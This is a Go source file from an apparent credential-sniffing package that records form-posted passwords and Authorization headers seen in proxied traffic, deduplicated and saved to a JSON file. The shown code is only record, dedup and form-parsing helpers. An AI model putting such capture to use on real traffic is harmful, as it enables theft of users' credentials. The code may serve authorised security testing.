// Package sniffer watches the client-to-origin direction of proxied traffic
// for form-posted credentials and Authorization headers, recording each
// distinct one it finds to a JSON file on disk.
package sniffer

import (
	"net/url"
	"sort"
	"strings"
)

// UserRecord is one captured credential observation. Fields holds whatever
// key/value pairs were extracted (form fields, or an auth scheme's
// parameters); Host holds the request's host header alongside them and
// takes part in deduplication. Client is kept out-of-band so the same
// credential seen from two different client sockets still dedups to one
// record, mirroring how a password is the same password regardless of who
// typed it.
type UserRecord struct {
	Fields map[string]string
	Host   string
	Client string
}

// dedupeKey returns a canonical string identifying the record's Fields plus
// Host, deliberately excluding Client, so two sightings of the same
// credential from different client sockets collapse to one entry.
func (u *UserRecord) dedupeKey() string {
	keys := make([]string, 0, len(u.Fields)+1)
	for k := range u.Fields {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	for _, k := range keys {
		b.WriteString(k)
		b.WriteByte('=')
		b.WriteString(u.Fields[k])
		b.WriteByte(' ')
	}
	b.WriteString("host=")
	b.WriteString(u.Host)
	return b.String()
}

// toJSONFields returns the flattened field map that gets serialized,
// folding host and client into the same map the Python collector's
// UserData.__init__ produced (both conditionally set, only when non-empty).
func (u *UserRecord) toJSONFields() map[string]string {
	out := make(map[string]string, len(u.Fields)+2)
	for k, v := range u.Fields {
		out[k] = v
	}
	if u.Host != "" {
		out["host"] = u.Host
	}
	if u.Client != "" {
		out["client"] = u.Client
	}
	return out
}

// parseFormBody splits an application/x-www-form-urlencoded body into a
// key/value map, percent-decoding both sides.
func parseFormBody(body []byte) map[string]string {
	out := make(map[string]string)
	for _, pair := range strings.Split(string(body), "&") {
		if pair == "" {
			continue
		}
		kv := strings.SplitN(pair, "=", 2)
		key, _ := url.QueryUnescape(kv[0])
		value := ""
		if len(kv) == 2 {
			value, _ = url.QueryUnescape(kv[1])
		}
		out[key] = value
	}
	return out
}
